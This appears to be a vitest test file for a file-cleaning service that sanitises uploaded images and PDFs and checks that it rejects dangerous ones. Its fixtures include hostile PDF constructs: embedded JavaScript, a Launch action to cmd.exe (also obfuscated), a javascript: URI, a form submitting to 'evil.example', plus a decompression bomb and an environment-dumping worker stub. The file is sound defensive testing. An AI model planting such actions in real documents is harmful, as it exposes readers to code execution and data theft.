import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { afterAll, describe, expect, test } from 'vitest';
import { createFileCleaner } from '../../api/src/adapters/file-cleaner.ts';
import { paths } from '../../api/src/paths.ts';
import type { CleanFile } from '../../api/src/ports.ts';
import { aPdf, aPdfBomb, aPhoto, aPng, aPngOf } from '../support/files.ts';

const cleaner = createFileCleaner({ workerFile: paths.fileWorker });
afterAll(() => cleaner.close());

const bytesOf = (file: CleanFile): Buffer => {
  if ('problem' in file) throw new Error(file.problem);
  return Buffer.from(file.bytes);
};
const script = '<html><script>alert(1)</script></html>';

describe('a picture', () => {
  test('keeps its pixels and loses place, camera and what was behind it', async () => {
    const photo = Buffer.concat([await aPhoto(), Buffer.from(script)]);
    expect((await sharp(photo).metadata()).exif?.includes('secret studio')).toBe(true);
    const clean = bytesOf(await cleaner.clean('JPEG', photo));
    const { exif, width, height, orientation } = await sharp(clean).metadata();
    // Upright: what lay on its side by a note in the file stands by its pixels.
    expect({ exif, width, height, orientation }).toEqual({ width: 40, height: 60 });
    expect(clean.includes('script')).toBe(false);
    expect(clean.includes('secret')).toBe(false);
  });

  test.each(['PNG', 'WEBP'] as const)('%s stays what it is, see-through where it was', async (kind) => {
    const clear = {
      create: { width: 4, height: 4, channels: 4, background: { r: 9, g: 9, b: 9, alpha: 0.5 } },
    } as const;
    const given = await (kind === 'PNG' ? sharp(clear).png() : sharp(clear).webp()).toBuffer();
    const { format, hasAlpha } = await sharp(bytesOf(await cleaner.clean(kind, given))).metadata();
    expect({ format, hasAlpha }).toEqual({ format: kind.toLowerCase(), hasAlpha: true });
  });

  test('gives the same bytes for the same bytes', async () => {
    const png = await aPng();
    expect(bytesOf(await cleaner.clean('PNG', png)).equals(bytesOf(await cleaner.clean('PNG', png)))).toBe(
      true,
    );
  });

  test('is at most 800 by 400 as a logo, and a PNG', async () => {
    const wide = bytesOf(await cleaner.logo('PNG', await aPng('#aa0000', 3000, 1000)));
    const small = bytesOf(await cleaner.logo('JPEG', await aPhoto()));
    expect(await sharp(wide).metadata()).toMatchObject({ format: 'png', width: 800, height: 267 });
    expect(await sharp(small).metadata()).toMatchObject({ format: 'png', width: 40, height: 60 });
  });

  test.each([
    ['65,535 by 65,535 pixels in a kilobyte', aPngOf(65_535, 65_535, Buffer.alloc(1000)), 'TOO_MANY_PIXELS'],
    ['a pixel more than allowed', aPngOf(40_001, 1000, Buffer.alloc(10)), 'TOO_MANY_PIXELS'],
    ['fewer pixels than it promises', aPngOf(4000, 4000, Buffer.alloc(10)), 'UNREADABLE'],
    ['nothing but a beginning', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), 'UNREADABLE'],
  ])('with %s is refused', async (_what, bytes, problem) => {
    expect(await cleaner.clean('PNG', bytes)).toEqual({ problem });
  });

  test('that is another kind than it begins like is refused', async () => {
    const png = await aPng();
    expect(await cleaner.clean('JPEG', png)).toEqual({ problem: 'UNREADABLE' });
    expect(await cleaner.clean('PNG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toEqual({
      problem: 'UNREADABLE',
    });
  });

  test('that was cut off is refused', async () => {
    const png = await aPng('#00aa00', 400, 400);
    expect(await cleaner.clean('PNG', png.subarray(0, png.length - 40))).toEqual({ problem: 'UNREADABLE' });
  });
});

describe('a PDF', () => {
  test('keeps its pages and loses what is behind them and what nothing shows', async () => {
    const paper = await aPdf((pdf) => void pdf.context.register(PDFString.of('hidden among the objects')), 3);
    const given = Buffer.concat([paper, Buffer.from(`\n${script}`)]);
    const clean = bytesOf(await cleaner.clean('PDF', given));
    expect((await PDFDocument.load(clean)).getPageCount()).toBe(3);
    const plain = await (await PDFDocument.load(clean)).save({ useObjectStreams: false });
    expect(Buffer.from(plain).includes('hidden among')).toBe(false);
    expect(clean.includes('script')).toBe(false);
    expect(bytesOf(await cleaner.clean('PDF', given)).equals(clean)).toBe(true);
  });

  const action = (entries: Record<string, unknown>) => (pdf: PDFDocument) =>
    pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(entries as Record<string, string>));
  test.each([
    ['a program', 'ACTIVE', (pdf: PDFDocument) => pdf.addJavaScript('main', 'app.alert(1)')],
    ['a file inside', 'ACTIVE', (pdf: PDFDocument) => pdf.attach(Buffer.from('MZ'), 'setup.exe')],
    ['a start command', 'ACTIVE', action({ S: 'Launch', F: 'cmd.exe' })],
    ['a start command in disguise', 'ACTIVE', action({ S: PDFName.of('La#75nch') })],
    ['a link to a program', 'ACTIVE', action({ S: 'URI', URI: PDFString.of(' JavaScript:alert(1)') })],
    ['a form that sends itself', 'ACTIVE', action({ S: 'SubmitForm', F: 'https://evil.example' })],
    ['a digital signature', 'SIGNED', (pdf: PDFDocument) => action({ ByteRange: [0, 1, 2, 3] })(pdf)],
    ['a password', 'ENCRYPTED', (pdf: PDFDocument) => pdf.encrypt({ userPassword: 'a', ownerPassword: 'b' })],
  ])('with %s is refused', async (_what, problem, change) => {
    expect(await cleaner.clean('PDF', await aPdf(change))).toEqual({ problem });
  });

  test('may link to pages and sites', async () => {
    const paper = await aPdf(action({ S: 'URI', URI: PDFString.of('https://example.com') }));
    expect(await cleaner.clean('PDF', paper)).toHaveProperty('bytes');
  });

  test('of 300 pages is taken, of 301 refused', async () => {
    expect(await cleaner.clean('PDF', await aPdf(undefined, 300))).toHaveProperty('bytes');
    expect(await cleaner.clean('PDF', await aPdf(undefined, 301))).toEqual({ problem: 'TOO_MANY_PAGES' });
  });

  test('that was cut off, or is nothing but a head, is refused', async () => {
    const paper = await aPdf();
    expect(await cleaner.clean('PDF', paper.subarray(0, 400))).toEqual({ problem: 'UNREADABLE' });
    expect(await cleaner.clean('PDF', Buffer.from('%PDF-1.7\n'))).toEqual({ problem: 'UNREADABLE' });
  });
});

describe('the process that opens a file', () => {
  test('ends before a bomb has eaten the memory of the machine, and the next file is opened', async () => {
    const patient = createFileCleaner({ workerFile: paths.fileWorker, timeoutMs: 55_000 });
    const started = performance.now();
    expect(await patient.clean('PDF', await aPdfBomb())).toEqual({ problem: 'TOO_MUCH_WORK' });
    // By its memory and not by its time: left alone it has taken two gigabytes by then.
    expect(performance.now() - started).toBeLessThan(45_000);
    expect(await patient.clean('PNG', await aPng())).toHaveProperty('bytes');
  });

  test.each([
    ['crashes', 'process.on("message", () => process.kill(process.pid, "SIGSEGV"))'],
    ['goes on for ever', 'process.on("message", () => { for (;;); })'],
    ['cannot start', 'throw new Error("broken")'],
  ])('may be one that %s: the file is refused and the server goes on', async (_what, code) => {
    const workerFile = join(mkdtempSync(join(tmpdir(), 'worker-')), 'worker.mjs');
    writeFileSync(workerFile, code);
    const broken = createFileCleaner({ workerFile, timeoutMs: 2000 });
    expect(await broken.clean('PNG', await aPng())).toEqual({ problem: 'TOO_MUCH_WORK' });
    await broken.close();
  });

  test('knows nothing of our environment', async () => {
    const workerFile = join(mkdtempSync(join(tmpdir(), 'worker-')), 'worker.mjs');
    writeFileSync(
      workerFile,
      'process.on("message", () => process.send({ problem: JSON.stringify(process.env) }))',
    );
    const telling = createFileCleaner({ workerFile });
    expect(JSON.stringify(await telling.clean('PNG', await aPng()))).not.toContain('PATH');
  });
});
